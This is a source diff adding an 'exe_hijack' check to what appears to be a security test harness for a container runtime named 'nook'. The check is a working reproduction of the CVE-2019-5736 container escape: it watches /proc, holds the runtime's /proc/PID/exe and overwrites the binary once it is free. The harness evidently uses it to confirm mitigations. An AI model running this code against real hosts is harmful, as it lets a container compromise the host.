@@ -896,6 +896,135 @@ static void c_exe_write_all(const char *arg) {
     ERR(seen[best].e, "tried=%d,%s", tried, sum);
 }
 
+/* CVE-2019-5736 the way an attacker in the container does it. For SECONDS,
+ * watch /proc for nook processes: argv[0] or /proc/PID/exe is PATH (the nook
+ * binary as /proc shows it from here; argv[0] may be its last component
+ * alone), or exe is a memfd named nook (the
+ * sealed copy). Open each one's /proc/PID/exe with O_PATH and keep it: that
+ * needs the process to be dumpable, and holds the binary after the process
+ * is gone. Then keep trying to reopen each held file for writing and write
+ * 8 bytes at offset 0: ETXTBSY lasts only while some process runs it, so the
+ * attacker waits for the runtime to finish. Only PATH and memfds are ever
+ * written. stderr gets "exe_hijack: watching" after the first scan.
+ * detail: seen=N, then PID:OUTCOME:ERRNO per nook process, OUTCOME one of
+ *   denied    O_PATH refused (not dumpable)
+ *   sealed    a memfd with F_SEAL_WRITE; ERRNO is the last write attempt's
+ *   unsealed  held and writable by permission, but busy (ETXTBSY) throughout
+ *   wrote     written: the attack worked
+ * result=ok when a held binary was unsealed or written (attack possible). */
+#define HIJACK_MAX 64
+struct hijack_target {
+    pid_t pid;
+    int fd;      /* O_PATH on the binary, -1 if denied */
+    int sealed;  /* F_GET_SEALS has F_SEAL_WRITE */
+    int done;    /* no more attempts: written, or refused for good */
+    int wrote;
+    int err;     /* last errno */
+    int writable_target; /* PATH or a memfd: the only files ever written */
+};
+
+static int hijack_is_nook(pid_t pid, const char *path, char *exe, size_t exesz) {
+    char p[64], cmd[PATH_MAX];
+    exe[0] = '\0';
+    snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
+    ssize_t r = readlink(p, exe, exesz - 1);
+    if (r >= 0) exe[r] = '\0';
+    else exe[0] = '\0';
+    if (exe[0] && (!strcmp(exe, path) || !strncmp(exe, "/memfd:nook", 11))) return 1;
+    /* argv[0]: PATH, or its last component when nook was found through $PATH. */
+    snprintf(p, sizeof p, "/proc/%d/cmdline", (int)pid);
+    if (read_small(p, cmd, sizeof cmd) <= 0) return 0;
+    const char *base = strrchr(path, '/');
+    return !strcmp(cmd, path) || (!strchr(cmd, '/') && base && !strcmp(cmd, base + 1));
+}
+
+static void hijack_try_write(struct hijack_target *t) {
+    char p[64];
+    snprintf(p, sizeof p, "/proc/self/fd/%d", t->fd);
+    int w = open(p, O_WRONLY | O_CLOEXEC);
+    if (w < 0) {
+        t->err = errno;
+        if (errno != ETXTBSY) t->done = 1;
+        return;
+    }
+    ssize_t n = pwrite(w, "NOOKPWND", 8, 0);
+    t->err = n == 8 ? 0 : (n < 0 ? errno : EIO);
+    close(w);
+    t->done = 1;
+    t->wrote = n == 8;
+}
+
+static void c_exe_hijack(const char *arg) {
+    char *end;
+    long seconds = strtol(arg, &end, 10);
+    if (*end != ':' || seconds <= 0 || seconds > 100 || end[1] != '/')
+        return ERR(EINVAL, "usage=exe_hijack:SECONDS:PATH");
+    const char *path = end + 1;
+    struct hijack_target t[HIJACK_MAX];
+    int n = 0;
+    pid_t self = getpid(), runner = getppid();
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    for (int round = 0;; round++) {
+        DIR *d = opendir("/proc");
+        if (!d) return ERR(errno, "step=opendir");
+        struct dirent *de;
+        while ((de = readdir(d)) && n < HIJACK_MAX) {
+            if (!is_number(de->d_name)) continue;
+            pid_t pid = (pid_t)atoi(de->d_name);
+            int known = pid == self || pid == runner;
+            for (int i = 0; i < n && !known; i++) known = t[i].pid == pid;
+            char exe[PATH_MAX];
+            if (known || !hijack_is_nook(pid, path, exe, sizeof exe)) continue;
+            struct hijack_target *x = &t[n++];
+            memset(x, 0, sizeof *x);
+            x->pid = pid;
+            char p[64];
+            snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
+            x->fd = open(p, O_PATH | O_CLOEXEC);
+            if (x->fd < 0) {
+                x->err = errno;
+                x->done = 1;
+                continue;
+            }
+            /* What the held fd is now, not what the name said a moment ago. */
+            snprintf(p, sizeof p, "/proc/self/fd/%d", x->fd);
+            ssize_t r = readlink(p, exe, sizeof exe - 1);
+            exe[r > 0 ? r : 0] = '\0';
+            x->writable_target = !strcmp(exe, path) || !strncmp(exe, "/memfd:nook", 11);
+            int rd = open(p, O_RDONLY | O_CLOEXEC);
+            if (rd >= 0) {
+                int seals = fcntl(rd, F_GET_SEALS);
+                x->sealed = seals >= 0 && (seals & F_SEAL_WRITE);
+                close(rd);
+            }
+            if (!x->writable_target) x->done = 1;
+        }
+        closedir(d);
+        if (round == 0) {
+            fprintf(stderr, "exe_hijack: watching (%d nook processes seen)\n", n);
+            fflush(stderr);
+        }
+        for (int i = 0; i < n; i++)
+            if (!t[i].done) hijack_try_write(&t[i]);
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        if (now.tv_sec - start.tv_sec >= seconds) break;
+        usleep(20000);
+    }
+    char detail[4096];
+    size_t dl = (size_t)snprintf(detail, sizeof detail, "seen=%d", n);
+    int attack = 0, first_err = 0;
+    for (int i = 0; i < n && dl < sizeof detail; i++) {
+        const char *outcome = t[i].fd < 0 ? "denied" : t[i].wrote ? "wrote" : t[i].sealed ? "sealed" : "unsealed";
+        if (t[i].wrote || (t[i].fd >= 0 && !t[i].sealed && t[i].writable_target)) attack = 1;
+        if (!first_err && t[i].err) first_err = t[i].err;
+        dl += (size_t)snprintf(detail + dl, sizeof detail - dl, ",%d:%s:%s", (int)t[i].pid, outcome,
+                               t[i].err ? errno_name(t[i].err) : "0");
+    }
+    if (attack) return OK("%s", detail);
+    ERR(n ? (first_err ? first_err : EPERM) : ENOENT, "%s", detail);
+}
+
 static void c_setuid_helper(const char *arg) {
     (void)arg;
     OK("ruid=%d,euid=%d,rgid=%d,egid=%d", (int)getuid(), (int)geteuid(), (int)getgid(),
@@ -1152,6 +1281,7 @@ static const struct check checks[] = {
     {"ls", c_ls, ARG_PATH, 0, 10, "ls:PATH count directory entries, detail=entries=N"},
     {"write", c_write, ARG_PATH, 0, 10, "write:PATH append one byte (undone)"},
     {"exe_write", c_exe_write, ARG_PID, 0, 10, "exe_write:PID open /proc/PID/exe O_WRONLY"},
+    {"exe_hijack", c_exe_hijack, ARG_PATH, 0, 120, "exe_hijack:SECONDS:PATH hold nook's /proc/PID/exe, then write it"},
     {"fork_many", c_fork_many, ARG_COUNT, 0, 60, "fork_many:N fork N sleeping children"},
     {"alloc", c_alloc, ARG_COUNT, 0, 600, "alloc:MB allocate and touch MB MiB"},
     {"tcp_connect", c_tcp_connect, ARG_PATH, 0, 10, "tcp_connect:IPV4:PORT connect, send ping, detail=reply=WORD"},
